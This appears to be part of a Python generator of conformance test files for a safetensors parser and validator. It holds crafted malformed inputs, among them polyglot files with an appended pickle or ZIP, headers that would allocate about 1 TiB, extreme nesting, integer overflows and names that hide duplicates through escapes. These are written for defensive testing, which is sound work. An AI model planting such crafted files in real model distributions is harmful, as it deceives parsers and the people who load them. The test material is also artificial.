    add("reason_json_duplicate_key_tensor", frame('{"w":%s,"w":%s}' % (entry("F32", "[2]", "[0,8]"), entry("F32", "[2]", "[8,16]")), b"\0" * 16),
        "json_duplicate_key", offset=AT('"w"', 2), note="duplicate tensor name (the reference keeps the last)")
    add("reason_json_duplicate_key_escaped", frame('{"w":%s,"\\u0077":%s}' % (entry("F32", "[2]", "[0,8]"), entry("F32", "[2]", "[8,16]")), b"\0" * 16),
        "json_duplicate_key", offset=AT('"\\u0077"'), note="\"w\" and \"\\u0077\" are the same key")
    add("reason_json_duplicate_key_escaped_nonascii", frame('{"é":%s,"\\u00e9":%s}' % (entry("F32", "[2]", "[0,8]"), entry("F32", "[2]", "[8,16]")), b"\0" * 16),
        "json_duplicate_key", offset=AT('"\\u00e9"'), note="raw é and \\u00e9 are the same key")
    add("reason_json_duplicate_key_field", frame('{"w":{"dtype":"F32","dtype":"I32","shape":[2],"data_offsets":[0,8]}}', E8),
        "json_duplicate_key", offset=AT('"dtype"', 2), note="dtype twice in one entry")
    add("reason_json_duplicate_key_offsets_field", frame('{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8],"data_offsets":[0,8]}}', E8),
        "json_duplicate_key", offset=AT('"data_offsets"', 2), note="data_offsets twice, same value")
    add("reason_json_duplicate_key_metadata_key", frame('{"__metadata__":{"k":"a","k":"b"},"w":%s}' % entry(), E8),
        "json_duplicate_key", offset=AT('"k"', 2), note="duplicate key inside __metadata__ (the reference keeps the last)")
    add("reason_json_duplicate_key_metadata_twice", frame('{"__metadata__":{"a":"1"},"__metadata__":{"b":"2"},"w":%s}' % entry(), E8),
        "json_duplicate_key", offset=AT('"__metadata__"', 2), note="__metadata__ twice")
    add("reason_json_duplicate_key_metadata_escaped", frame('{"__metadata__":{"a":"1"},"\\u005f_metadata__":{"b":"2"},"w":%s}' % entry(), E8),
        "json_duplicate_key", offset=AT('"\\u005f_metadata__"'), note="__metadata__ and \\u005f_metadata__ decode to the same key")
    # json_nesting
    add("reason_json_nesting_shape_200", frame('{"w":{"dtype":"F32","shape":%s,"data_offsets":[0,8]}}' % ("[" * 200 + "2" + "]" * 200), E8),
        "json_nesting", note="shape nested 200 deep")
    add("reason_json_nesting_value_5000", frame('{"w":%s}' % ("[" * 5000 + "]" * 5000)), "json_nesting", note="tensor value nested 5000 deep")
    add("reason_json_nesting_objects_100", frame('{"__metadata__":%s}' % ('{"a":' * 100 + '"x"' + "}" * 100)), "json_nesting", note="objects nested 100 deep in __metadata__")
    add("reason_json_nesting_shape_depth_65", frame('{"w":{"dtype":"F32","shape":%s,"data_offsets":[0,8]}}' % ("[" * 63 + "2" + "]" * 63), E8),
        "json_nesting", note="root object 1 + entry 2 + 63 arrays = depth 65: one above the bound of 64")
    add("reason_shape_invalid_depth_64", frame('{"w":{"dtype":"F32","shape":%s,"data_offsets":[0,8]}}' % ("[" * 62 + "2" + "]" * 62), E8),
        "shape_invalid", note="depth exactly 64 (the bound) parses; the nested shape is then refused as a shape")
    add("reason_json_nesting_unclosed_100000", frame('{"w":' + "[" * 100000), "json_nesting", note="100000 unclosed brackets: the bound stops it first")
    # integer_format
    for tag, text, note in [("fraction", "[2.0]", "2.0 in shape"), ("exponent", "[2e0]", "2e0 in shape"), ("exponent_upper", "[1E1]", "1E1 in shape"),
                            ("leading_zero", "[02]", "leading zero 02 in shape"), ("minus_zero", "[-0]", "-0 in shape"), ("negative", "[-2]", "negative dim"),
                            ("plus", "[+2]", "+2 in shape (not JSON either)"), ("half", "[2.5]", "2.5 in shape")]:
        reason = "json_syntax" if tag == "plus" else "integer_format"
        add(f"reason_integer_format_shape_{tag}", frame('{"w":{"dtype":"F32","shape":%s,"data_offsets":[0,8]}}' % text, E8), reason, note=note)
    add("reason_integer_format_offsets_fraction", frame('{"w":%s}' % entry("F32", "[2]", "[0,8.0]"), E8), "integer_format", note="8.0 in data_offsets")
    add("reason_integer_format_offsets_exponent", frame('{"w":%s}' % entry("F32", "[2]", "[0,8e0]"), E8), "integer_format", note="8e0 in data_offsets")
    add("reason_integer_format_offsets_leading_zero", frame('{"w":%s}' % entry("F32", "[2]", "[00,8]"), E8), "integer_format", note="00 in data_offsets")
    add("reason_integer_format_offsets_minus_zero", frame('{"w":%s}' % entry("F32", "[2]", "[-0,8]"), E8), "integer_format", note="-0 in data_offsets")
    # integer_overflow
    add("reason_integer_overflow_shape_2pow64", frame('{"w":{"dtype":"U8","shape":[18446744073709551616],"data_offsets":[0,8]}}', E8), "integer_overflow", note="2^64 in shape")
    add("reason_integer_overflow_offsets", frame('{"w":%s}' % entry("U8", "[8]", "[0,99999999999999999999999]"), E8), "integer_overflow", note="23-digit end offset")
    add("reason_integer_overflow_300_digits", frame('{"w":{"dtype":"U8","shape":[%s],"data_offsets":[0,8]}}' % ("9" * 300), E8), "integer_overflow", note="300-digit dimension")
    add("reason_integer_overflow_begin_2pow64_plus", frame('{"w":%s}' % entry("U8", "[0]", "[18446744073709551617,18446744073709551617]")), "integer_overflow", note="offsets 2^64+1")
    # tensor_not_object
    add("reason_tensor_not_object_array_form", frame('{"w":["F32",[2],[0,8]]}', E8), "tensor_not_object", note="entry as a 3-element array")
    add("reason_tensor_not_object_string", frame('{"w":"F32"}'), "tensor_not_object", note="entry is a string")
    add("reason_tensor_not_object_null", frame('{"w":null}'), "tensor_not_object", note="entry is null")
    add("reason_tensor_not_object_number", frame('{"w":1}'), "tensor_not_object", note="entry is a number")
    add("reason_tensor_not_object_true", frame('{"w":true}'), "tensor_not_object", note="entry is true")
    # tensor_unknown_field
    add("reason_tensor_unknown_field_extra", frame('{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8],"extra":1}}', E8), "tensor_unknown_field", offset=AT('"extra"'), note="extra field")
    add("reason_tensor_unknown_field_first", frame('{"w":{"align":8,"dtype":"F32","shape":[2],"data_offsets":[0,8]}}', E8), "tensor_unknown_field", offset=AT('"align"'), note="unknown field before the known ones")
    add("reason_tensor_unknown_field_metadata_inside", frame('{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8],"__metadata__":{}}}', E8), "tensor_unknown_field", offset=AT('"__metadata__"'), note="__metadata__ inside an entry")
    # tensor_missing_field
    add("reason_tensor_missing_field_dtype", frame('{"w":{"shape":[2],"data_offsets":[0,8]}}', E8), "tensor_missing_field", note="no dtype")
    add("reason_tensor_missing_field_shape", frame('{"w":{"dtype":"F32","data_offsets":[0,8]}}', E8), "tensor_missing_field", note="no shape")
    add("reason_tensor_missing_field_offsets", frame('{"w":{"dtype":"F32","shape":[2]}}', E8), "tensor_missing_field", note="no data_offsets")
    add("reason_tensor_missing_field_empty", frame('{"w":{}}'), "tensor_missing_field", note="empty entry")
    # dtype_invalid
    add("reason_dtype_invalid_object", frame('{"w":{"dtype":{"F32":null},"shape":[2],"data_offsets":[0,8]}}', E8), "dtype_invalid", note="{\"F32\": null} (the reference's serde accepts it)")
    add("reason_dtype_invalid_number", frame('{"w":{"dtype":32,"shape":[2],"data_offsets":[0,8]}}', E8), "dtype_invalid", note="dtype 32")
    add("reason_dtype_invalid_null", frame('{"w":{"dtype":null,"shape":[2],"data_offsets":[0,8]}}', E8), "dtype_invalid", note="dtype null")
    add("reason_dtype_invalid_array", frame('{"w":{"dtype":["F32"],"shape":[2],"data_offsets":[0,8]}}', E8), "dtype_invalid", note="dtype [\"F32\"]")
    # dtype_unknown
    for tag, name in [("lowercase", "f32"), ("f128", "F128"), ("numpy_name", "float32"), ("empty", ""), ("trailing_space", "F32 "),
                      ("torch_fp8_name", "F8_E4M3FN"), ("gguf_q4", "Q4_0"), ("escaped_nul", "F32\\u0000")]:
        add(f"reason_dtype_unknown_{tag}", frame('{"w":{"dtype":"%s","shape":[2],"data_offsets":[0,8]}}' % name, E8), "dtype_unknown", note=f"dtype \"{name}\"")
    # shape_invalid
    for tag, text in [("string", '"2"'), ("null", "null"), ("string_element", '[2,"3"]'), ("null_element", "[2,null]"),
                      ("object", "{}"), ("bool_element", "[true]"), ("nested_array", "[[2]]"), ("number", "2")]:
        add(f"reason_shape_invalid_{tag}", frame('{"w":{"dtype":"F32","shape":%s,"data_offsets":[0,8]}}' % text, E8), "shape_invalid", note=f"shape {text}")
    # offsets_invalid
    for tag, text, data in [("reversed", "[8,0]", E8), ("one_element", "[0]", b""), ("three_elements", "[0,8,8]", E8), ("string", '"0,8"', E8),
                            ("empty", "[]", b""), ("null", "null", b""), ("string_element", '[0,"8"]', E8), ("object", '{"begin":0,"end":8}', E8)]:
        add(f"reason_offsets_invalid_{tag}", frame('{"w":{"dtype":"F32","shape":[2],"data_offsets":%s}}' % text, data), "offsets_invalid", note=f"data_offsets {text}")
    # tensor names
    add("reason_tensor_name_empty", frame('{"":%s}' % entry(), E8), "tensor_name_empty", note="name \"\"")
    add("reason_tensor_name_empty_with_others", build([("a", "F32", (1,)), ("", "F32", (1,))]), "tensor_name_empty", note="second tensor has an empty name")
    add("reason_tensor_name_too_long_1025", build([("n" * 1025, "U8", (1,))]), "tensor_name_too_long", note="1025-byte name")
    add("reason_tensor_name_too_long_multibyte", build([("é" * 513, "U8", (1,))]), "tensor_name_too_long", note="513 x U+00E9 = 1026 bytes")
    add("reason_tensor_name_too_long_escaped", frame('{"%s":%s}' % ("\\u00e9" * 513, entry("U8", "[1]", "[0,1]")), b"x"), "tensor_name_too_long", note="513 escaped U+00E9 = 1026 decoded bytes")
    add("reason_tensor_name_too_long_100k", build([("n" * 100000, "U8", (1,))]), "tensor_name_too_long", note="100000-byte name")
    for tag, esc in [("nul", "\\u0000"), ("u001f", "\\u001f"), ("del", "\\u007f"), ("newline", "\\n"), ("tab", "\\t"), ("escape", "\\u001b[31m")]:
        add(f"reason_tensor_name_control_{tag}", frame('{"a%sb":%s}' % (esc, entry()), E8), "tensor_name_control", note=f"{esc} in a tensor name")
    add("reason_tensor_name_control_c1_u0085", frame('{"a\\u0085b":%s}' % entry("U8", "[1]", "[0,1]"), b"x"), "tensor_name_control",
        note="U+0085 (NEL) is a C1 control (Unicode Cc): refused like C0 (st_error.h names only U+0000-001F and U+007F)")
    add("reason_tensor_name_control_c1_raw_u009f", frame('{"a\u009fb":%s}' % entry("U8", "[1]", "[0,1]"), b"x"), "tensor_name_control",
        note="raw C2 9F (U+009F) in a name")
    add("reason_tensor_name_control_raw_del", frame('{"a\x7fb":%s}' % entry(), E8), "tensor_name_control", note="raw DEL (0x7F is legal unescaped JSON)")
    # metadata
    for tag, text in [("string", '"x"'), ("array", "[]"), ("null", "null"), ("number", "1"), ("array_of_pairs", '[["k","v"]]')]:
        add(f"reason_metadata_not_object_{tag}", frame('{"__metadata__":%s,"w":%s}' % (text, entry()), E8), "metadata_not_object", note=f"__metadata__ = {text}")
    for tag, text in [("number", "1"), ("null", "null"), ("object", '{"a":"b"}'), ("array", '["a"]'), ("true", "true")]:
        add(f"reason_metadata_value_not_string_{tag}", frame('{"__metadata__":{"k":%s},"w":%s}' % (text, entry()), E8), "metadata_value_not_string", note=f"metadata value {text}")
    add("reason_metadata_value_not_string_escaped_key", frame('{"\\u005f_metadata__":{"k":1},"w":%s}' % entry(), E8), "metadata_value_not_string",
        note="\\u005f_metadata__ decodes to __metadata__ and is checked as metadata")
    # size_overflow
    add("reason_size_overflow_shape_product", frame('{"w":{"dtype":"U8","shape":[4294967296,4294967296],"data_offsets":[0,8]}}', E8), "size_overflow", note="2^32 x 2^32 elements")
    add("reason_size_overflow_bytes_f64", frame('{"w":{"dtype":"F64","shape":[2305843009213693952],"data_offsets":[0,8]}}', E8), "size_overflow", note="2^61 F64 elements x 8 bytes")
    add("reason_size_overflow_rank_65", frame('{"w":{"dtype":"U8","shape":[%s],"data_offsets":[0,8]}}' % ",".join(["2"] * 65), E8), "size_overflow", note="65 dims of 2")
    add("reason_size_overflow_f4_bits", frame('{"w":{"dtype":"F4","shape":[18446744073709551615],"data_offsets":[0,8]}}', E8), "size_overflow", note="u64max F4 elements: bits overflow")
    add("reason_size_overflow_c64", frame('{"w":{"dtype":"C64","shape":[3,768614336404564651],"data_offsets":[0,8]}}', E8), "size_overflow", note="elements fit, x8 bytes does not")
    # sub_byte_partial
    for tag, dtype, shape in [("f4_3", "F4", "[3]"), ("f4_scalar", "F4", "[]"), ("f4_1x1", "F4", "[1,1]"), ("f6e2m3_1", "F6_E2M3", "[1]"),
                              ("f6e3m2_5", "F6_E3M2", "[5]"), ("f6e2m3_2x3", "F6_E2M3", "[2,3]")]:
        add(f"reason_sub_byte_partial_{tag}", frame('{"w":{"dtype":"%s","shape":%s,"data_offsets":[0,1]}}' % (dtype, shape), b"\0"), "sub_byte_partial", note=f"{dtype} shape {shape}: not whole bytes")
    # size_mismatch
    add("reason_size_mismatch_short", frame('{"w":%s}' % entry("F32", "[2]", "[0,4]"), b"\0" * 4), "size_mismatch", note="F32[2] needs 8 bytes, offsets give 4")
    add("reason_size_mismatch_long", frame('{"w":%s}' % entry("F32", "[2]", "[0,12]"), b"\0" * 12), "size_mismatch", note="F32[2] needs 8 bytes, offsets give 12")
    add("reason_size_mismatch_zero_size_nonempty", frame('{"w":%s}' % entry("F32", "[0]", "[0,4]"), b"\0" * 4), "size_mismatch", note="zero elements, 4 bytes")
    add("reason_size_mismatch_scalar", frame('{"w":%s}' % entry("F64", "[]", "[0,4]"), b"\0" * 4), "size_mismatch", note="F64 scalar in 4 bytes")
    add("reason_size_mismatch_second", frame('{"a":%s,"b":%s}' % (entry("U8", "[4]", "[0,4]"), entry("I16", "[4]", "[4,10]")), b"\0" * 10), "size_mismatch", note="second tensor I16[4] in 6 bytes")
    add("reason_size_mismatch_f4", frame('{"w":%s}' % entry("F4", "[4]", "[0,4]"), b"\0" * 4), "size_mismatch", note="F4[4] is 2 bytes, offsets give 4")
    # data_hole
    h = '{"w":%s}' % entry("F32", "[2]", "[4,12]")
    add("reason_data_hole_before_first", frame(h, b"\0" * 12), "data_hole", offset=8 + len(h), note="first tensor starts at 4")
    h = '{"a":%s,"b":%s}' % (entry("F32", "[2]", "[0,8]"), entry("F32", "[2]", "[12,20]"))
    add("reason_data_hole_between", frame(h, b"\0" * 20), "data_hole", offset=8 + len(h) + 8, note="4 bytes between a and b")
    h = '{"a":%s,"z":%s}' % (entry("F32", "[2]", "[0,8]"), entry("F32", "[0]", "[12,12]"))
    add("reason_data_hole_zero_size_beyond", frame(h, b"\0" * 12), "data_hole", note="zero-size tensor at 12 leaves 8..12 uncovered")
    # data_overlap
    h = '{"a":%s,"b":%s}' % (entry("F32", "[2]", "[0,8]"), entry("F32", "[2]", "[4,12]"))
    add("reason_data_overlap_partial", frame(h, b"\0" * 12), "data_overlap", note="b starts inside a")
    h = '{"a":%s,"b":%s}' % (entry("F32", "[4]", "[0,16]"), entry("F32", "[1]", "[4,8]"))
    add("reason_data_overlap_contained", frame(h, b"\0" * 16), "data_overlap", note="b inside a")
    h = '{"a":%s,"b":%s}' % (entry("F32", "[2]", "[0,8]"), entry("I32", "[2]", "[0,8]"))
    add("reason_data_overlap_identical", frame(h, b"\0" * 8), "data_overlap", note="two tensors on the same bytes (aliasing)")
    # data_trailing
    h = one("F32", (2,))
    add("reason_data_trailing_one_byte", frame(h, b"\0" * 9), "data_trailing", offset=8 + len(h) + 8, note="one byte after the last tensor")
    add("reason_data_trailing_no_tensors", frame("{}", b"x"), "data_trailing", offset=10, note="no tensors, one data byte")
    add("reason_data_trailing_after_zero_size", frame(one("F32", (0,)), b"\0\0\0\0"), "data_trailing", offset=8 + len(one("F32", (0,))), note="only a zero-size tensor, 4 data bytes")
    # data_truncated
    h = one("F32", (4,))
    add("reason_data_truncated_one_byte", frame(h, b"\0" * 15), "data_truncated", offset=END, note="last byte missing")
    add("reason_data_truncated_all", frame(h), "data_truncated", offset=END, note="no data at all")
    h = '{"a":%s,"b":%s}' % (entry("F32", "[2]", "[0,8]"), entry("F64", "[100]", "[8,808]"))
    add("reason_data_truncated_second_tensor", frame(h, b"\0" * 100), "data_truncated", offset=END, note="second tensor runs past the end")


def nan_file(dtype, pattern, count_before=3):
    """A file with one tensor of `dtype` whose last element is `pattern` (bytes), the others zero."""
    width = DTYPE_BITS[dtype] // 8
    data = b"\0" * (width * count_before) + pattern
    return build([("x", dtype, (count_before + 1,), data)])


def family_nonfinite():
    cases = [("f32_nan", "F32", struct.pack("<f", float("nan")), "F32 NaN"),
             ("f32_inf", "F32", struct.pack("<f", float("inf")), "F32 +Inf"),
             ("f32_neg_inf", "F32", struct.pack("<f", float("-inf")), "F32 -Inf"),
             ("f32_nan_payload", "F32", b"\x01\x00\x80\xff", "F32 negative NaN with a payload"),
             ("f64_nan", "F64", struct.pack("<d", float("nan")), "F64 NaN"),
             ("f64_neg_inf", "F64", struct.pack("<d", float("-inf")), "F64 -Inf"),
             ("f16_nan", "F16", b"\x00\x7e", "F16 NaN 0x7E00"),
             ("f16_inf", "F16", b"\x00\x7c", "F16 +Inf 0x7C00"),
             ("bf16_inf", "BF16", b"\x80\x7f", "BF16 +Inf 0x7F80"),
             ("bf16_nan", "BF16", b"\xc0\xff", "BF16 NaN 0xFFC0"),
             ("f8_e4m3_nan", "F8_E4M3", b"\x7f", "F8_E4M3 NaN 0x7F (E4M3FN has no Inf)"),
             ("f8_e5m2_inf", "F8_E5M2", b"\x7c", "F8_E5M2 +Inf 0x7C"),
             ("f8_e5m2_nan", "F8_E5M2", b"\x7e", "F8_E5M2 NaN 0x7E"),
             ("f8_e8m0_nan", "F8_E8M0", b"\xff", "F8_E8M0 NaN 0xFF"),
             ("f8_e4m3fnuz_nan", "F8_E4M3FNUZ", b"\x80", "F8_E4M3FNUZ NaN 0x80"),
             ("f8_e5m2fnuz_nan", "F8_E5M2FNUZ", b"\x80", "F8_E5M2FNUZ NaN 0x80"),
             ("c64_nan_imag", "C64", b"\0\0\0\0" + struct.pack("<f", float("nan")), "C64 with a NaN imaginary part")]
    for tag, dtype, pattern, note in cases:
        data = nan_file(dtype, pattern)
        add(f"nonfinite_{tag}", data, "nonfinite_values", note=note + " refused with --refuse-nonfinite", mode="nonfinite")
        add(f"tob_nonfinite_{tag}_default", data, note=note + ": valid by default (ToB 10: only policy refuses)")
    # Finite values only: the policy passes them.
    add("nonfinite_ok_finite_floats", build([("a", "F32", (3,), struct.pack("<3f", 1.5, -0.0, 3.4e38)), ("b", "F16", (2,), b"\xff\x7b\x01\x00"),
                                             ("c", "F64", (1,), struct.pack("<d", 1e308))]), note="largest finite values, -0, subnormal", mode="nonfinite")
    add("nonfinite_ok_integers_all_ones", build([("a", "I32", (2,), b"\xff" * 8), ("b", "U8", (2,), b"\xff\xff"), ("c", "U16", (1,), b"\x00\x7c")]),
        note="integer bits that would be NaN/Inf as floats", mode="nonfinite")
    add("nonfinite_ok_f4_all_patterns", build([("a", "F4", (16,), bytes([0x10, 0x32, 0x54, 0x76, 0x98, 0xba, 0xdc, 0xfe]))]),
        note="F4 (E2M1) has no NaN/Inf: all 16 codes", mode="nonfinite")
    add("nonfinite_ok_f6_all_patterns", build([("a", "F6_E2M3", (64,), det_bytes(48, "f6a")), ("b", "F6_E3M2", (64,), det_bytes(48, "f6b"))]),
        note="F6 types have no NaN/Inf", mode="nonfinite")
    add("nonfinite_ok_f8_e4m3_max", build([("a", "F8_E4M3", (2,), b"\x7e\xfe")]), note="0x7E = 448 and 0xFE = -448 are finite in E4M3FN", mode="nonfinite")
    add("nonfinite_ok_fnuz_0x7f", build([("a", "F8_E4M3FNUZ", (1,), b"\x7f"), ("b", "F8_E5M2FNUZ", (1,), b"\x7f")]), note="0x7F is finite in FNUZ types", mode="nonfinite")
    add("nonfinite_ok_zero_size", build([("a", "F32", (0,))]), note="zero-size float tensor", mode="nonfinite")
    add("nonfinite_ok_bool", build([("a", "BOOL", (2,), b"\x01\x00")]), note="BOOL is not floating", mode="nonfinite")


def family_tob():
    """Trail of Bits 2023 findings (REFERENCES.md)."""
    base = build([("w", "F32", (4,))])
    hsize = struct.unpack("<Q", base[:8])[0]
    end = len(base)
    z = zip_bytes([("archive/data.pkl", PICKLE_SYSTEM_P2)])
    add("tob_polyglot_zip_appended", base + z, "data_trailing", offset=end, note="ToB 1: safetensors + ZIP with a pickle appended")
    add("tob_polyglot_pdf_appended", base + b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", "data_trailing", offset=end, note="ToB 1: PDF appended")
    add("tob_polyglot_pickle_appended", base + PICKLE_SYSTEM_P2, "data_trailing", offset=end, note="ToB 1: pickle appended")
    add("tob_polyglot_tfrecord_appended", base + struct.pack("<Q", 5) + b"\0" * 4 + b"hello" + b"\0" * 4, "data_trailing", offset=end, note="ToB 1: TFRecord-like record appended")
    add("tob_polyglot_h5_keras_appended", base + hdf5_file(), "data_trailing", offset=end, note="ToB 1: HDF5 (Keras) appended")
    add("tob_short_data_section", base[:-5], "data_truncated", offset=END, note="ToB 1: data section 5 bytes short")
    add("tob_short_data_header_only", base[:8 + hsize], "data_truncated", offset=END, note="ToB 1: header only, no data")
    add("tob_overflow_shape_product", frame('{"w":{"dtype":"F32","shape":[2,18446744073709551614],"data_offsets":[0,8]}}', b"\0" * 8), "size_overflow", note="ToB 2: shape product overflows")
    add("tob_overflow_times_dtype", frame('{"w":{"dtype":"F32","shape":[4611686018427387904],"data_offsets":[0,8]}}', b"\0" * 8), "size_overflow", note="ToB 2: 2^62 elements x 4 overflows")
    add("tob_overflow_offsets_sum", frame('{"a":%s,"b":%s}' % (entry("U8", "[8]", "[0,8]"), entry("U8", "[0]", "[18446744073709551615,18446744073709551615]")), b"\0" * 8),
        "data_hole", note="ToB 2: offset at u64 max (coverage, not a wrap-around)")
    add("tob_zero_size_valid", frame(one("F32", (0, 3))), note="ToB 3: zero-size tensors are valid")
    add("tob_duplicate_tensor_last_wins", frame('{"w":%s,"w":%s}' % (entry("F32", "[2]", "[0,8]"), entry("I32", "[2]", "[0,8]")), b"\0" * 8),
        "json_duplicate_key", offset=AT('"w"', 2), note="ToB 7: duplicate names, the reference keeps the last")
    add("tob_duplicate_via_escape_case", frame('{"W":%s,"\\u0057":%s}' % (entry("F32", "[2]", "[0,8]"), entry("F32", "[2]", "[8,16]")), b"\0" * 16),
        "json_duplicate_key", note="ToB 7: \\u0057 is W")
    add("tob_nfc_nfd_distinct_names", build([("caf\u00e9", "F32", (1,)), ("cafe\u0301", "F32", (1,))]),
        note="ToB 7: NFC and NFD spellings are different byte strings: two tensors, valid")
    add("tob_big_number_dim", frame('{"w":{"dtype":"U8","shape":[1e400],"data_offsets":[0,8]}}', b"\0" * 8), "integer_format", note="ToB 7: 1e400 (a double parser says inf)")
    add("tob_big_number_float_exact", frame('{"w":{"dtype":"U8","shape":[9007199254740993],"data_offsets":[0,9007199254740993]}}'), "data_truncated",
        note="ToB 7: 2^53+1 must stay exact (a double parser rounds it); file too short")
    add("tob_one_point_zero", frame('{"w":{"dtype":"F32","shape":[1.0],"data_offsets":[0,4]}}', b"\0" * 4), "integer_format", note="ToB 7: 1.0")
    add("tob_1e3", frame('{"w":{"dtype":"U8","shape":[1e3],"data_offsets":[0,1000]}}', b"\0" * 1000), "integer_format", note="ToB 7: 1e3")
    add("tob_minus_zero_offset", frame('{"w":{"dtype":"F32","shape":[1],"data_offsets":[-0,4]}}', b"\0" * 4), "integer_format", note="ToB 7: -0")
    add("tob_leading_zeros", frame('{"w":{"dtype":"F32","shape":[0001],"data_offsets":[0,4]}}', b"\0" * 4), "integer_format", note="ToB 7: 0001")
    add("tob_escaped_metadata_key_alone", frame('{"\\u005f_metadata__":{"k":"v"},"w":%s}' % entry("U8", "[1]", "[0,1]"), b"x"),
        note="ToB 7: \\u005f_metadata__ is __metadata__ after decoding: valid metadata")
    add("tob_escaped_dtype_value", frame('{"w":{"dtype":"\\u0046\\u0033\\u0032","shape":[1],"data_offsets":[0,4]}}', b"\0" * 4),
        note="ToB 7: dtype spelled \\u0046\\u0033\\u0032 = F32: valid after decoding")
    add("tob_escaped_field_name", frame('{"w":{"\\u0064type":"F32","shape":[1],"data_offsets":[0,4]}}', b"\0" * 4),
        note="ToB 7: field \\u0064type = dtype: valid after decoding")
    add("tob_escaped_nul_in_name_prefix", frame('{"w\\u0000.hidden":%s,"w":%s}' % (entry("U8", "[1]", "[0,1]"), entry("U8", "[1]", "[1,2]")), b"ab"),
        "tensor_name_control", note="ToB 7: C parsers would cut the name at NUL and see a duplicate")
    add("tob_duplicate_via_escaped_solidus", frame('{"a/b":%s,"a\\/b":%s}' % (entry("U8", "[1]", "[0,1]"), entry("U8", "[1]", "[1,2]")), b"ab"),
        "json_duplicate_key", offset=AT('"a\\/b"'), note="ToB 7: \\/ is /, so the names are equal")
    add("tob_utf16_surrogate_pair_name", frame('{"\\ud83d\\ude00":%s}' % entry("U8", "[1]", "[0,1]"), b"x"), note="ToB 7: a valid surrogate pair decodes to U+1F600")
    add("tob_surrogate_pair_duplicates_raw", frame('{"\\ud83d\\ude00":%s,"😀":%s}' % (entry("U8", "[1]", "[0,1]"), entry("U8", "[1]", "[1,2]")), b"ab"),
        "json_duplicate_key", offset=AT('"😀"'), note="ToB 7: escaped pair and raw emoji are one key")
    add("tob_header_too_large_fake_length", frame(one(), b"\0" * 8, n=2**40), "header_too_large", offset=0, note="ToB/fuzz: a length that would allocate 1 TiB")


def family_ref():
    """Byte literals from huggingface/safetensors tests (safetensors/src/tensor.rs, bindings/python/tests/test_simple.py)."""
    I32_0 = b"\0" * 16
    std = b'{"test":{"dtype":"I32","shape":[2,2],"data_offsets":[0,16]}}'
    add("ref_test_deserialization", b"<" + b"\0" * 7 + std + I32_0, note="tensor.rs test_deserialization: same verdict (valid)")
    add("ref_test_serialization_py", b"<" + b"\0" * 7 + std + b"\0" * 12 + b"\x01\0\0\0", note="test_simple.py test_serialization (data[1,1]=1): valid")
    add("ref_test_load_with_metadata", b"f" + b"\0" * 7 + b'{"__metadata__":{"framework":"pt"},"test1":{"dtype":"I32","shape":[2,2],"data_offsets":[0,16]}}       ' + I32_0,
        note="test_simple.py metadata case (7 spaces): valid")
    add("ref_test_empty", bytes([8, 0, 0, 0, 0, 0, 0, 0, 123, 125, 32, 32, 32, 32, 32, 32]), note="tensor.rs test_empty: valid")
    add("ref_test_empty_metadata", struct.pack("<Q", 40) + b'{"__metadata__":{"framework":"pt"}}     ', note="tensor.rs test_empty with metadata: valid")
    f32 = struct.pack("<6f", 0, 1, 2, 3, 4, 5)
    add("ref_test_serialization_attn", struct.pack("<Q", 64) + b'{"attn.0":{"dtype":"F32","shape":[1,2,3],"data_offsets":[0,24]}}' + f32, note="tensor.rs test_serialization: valid")
    add("ref_test_forced_alignment", struct.pack("<Q", 72) + b'{"attn0":{"dtype":"F32","shape":[1,1,2,3],"data_offsets":[0,24]}}       ' + f32, note="tensor.rs forced alignment: valid")
    add("ref_test_empty_shapes_allowed", b"8" + b"\0" * 7 + b'{"test":{"dtype":"I32","shape":[],"data_offsets":[0,4]}}' + b"\0" * 4, note="tensor.rs scalar: valid")
    add("ref_test_zero_sized_tensor", b"<" + b"\0" * 7 + b'{"test":{"dtype":"I32","shape":[2,0],"data_offsets":[0, 0]}}', note="tensor.rs zero-sized: valid")
    add("ref_test_header_too_small", b"", "file_too_small", "unknown", note="tensor.rs HeaderTooSmall -> file_too_small")
    add("ref_test_invalid_header_length", b"<" + b"\0" * 7, "header_truncated", offset=END, note="tensor.rs InvalidHeaderLength -> header_truncated")
    add("ref_test_invalid_header_non_utf8", b"\x01" + b"\0" * 7 + b"\xff", "header_not_utf8", offset=8, note="tensor.rs InvalidHeader (non UTF-8) -> header_not_utf8")
    add("ref_test_invalid_header_not_json", b"\x01" + b"\0" * 7 + b"{", "json_syntax", note="tensor.rs InvalidHeaderDeserialization -> json_syntax")
    add("ref_test_whitespace_padded_header", b"\x06" + b"\0" * 7 + b"{}\x0d\x20\x09\x0a", "header_trailing_bytes", offset=10,
        note="tensor.rs accepts CR/space/tab/LF after }: we allow only spaces -> header_trailing_bytes (stricter)")
    add("ref_test_whitespace_start_padded", b"\x06" + b"\0" * 7 + b"\x09\x0a{}\x0d\x20", "header_start", offset=8, note="tensor.rs (commented out, for 0.4.0) InvalidHeaderStart -> header_start")
    add("ref_test_invalid_info", b"<" + b"\0" * 7 + b'{"test":{"dtype":"I32","shape":[2,2],"data_offsets":[0, 4]}}', "size_mismatch", note="tensor.rs TensorInvalidInfo -> size_mismatch")
    add("ref_test_validation_overflow_shape", b"O" + b"\0" * 7 + b'{"test":{"dtype":"I32","shape":[2,18446744073709551614],"data_offsets":[0,16]}}' + I32_0,
        "size_overflow", note="tensor.rs ValidationOverflow (shape) -> size_overflow")
    add("ref_test_validation_overflow_bytes", b"N" + b"\0" * 7 + b'{"test":{"dtype":"I32","shape":[2,9223372036854775807],"data_offsets":[0,16]}}' + I32_0,
        "size_overflow", note="tensor.rs ValidationOverflow (x dtype size) -> size_overflow")
    add("ref_test_metadata_incomplete_buffer_extra", b"<" + b"\0" * 7 + std + I32_0 + b"extra_bogus_data_for_polyglot_file", "data_trailing", offset=8 + 60 + 16,
        note="tensor.rs MetadataIncompleteBuffer (polyglot) -> data_trailing")
    add("ref_test_metadata_incomplete_buffer_short", b"<" + b"\0" * 7 + std + b"\0" * 14, "data_truncated", offset=END, note="tensor.rs MetadataIncompleteBuffer (2 bytes missing) -> data_truncated")
    add("ref_test_header_too_large", b"<\0\0\0\0\xff\xff\xff" + std + I32_0, "header_too_large", offset=0, note="tensor.rs HeaderTooLarge -> header_too_large")
    attack = compact({f"weight_{i}": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]} for i in range(10)})
    add("ref_test_json_attack", frame(attack, I32_0), "data_overlap", note="tensor.rs test_json_attack InvalidOffset -> data_overlap")
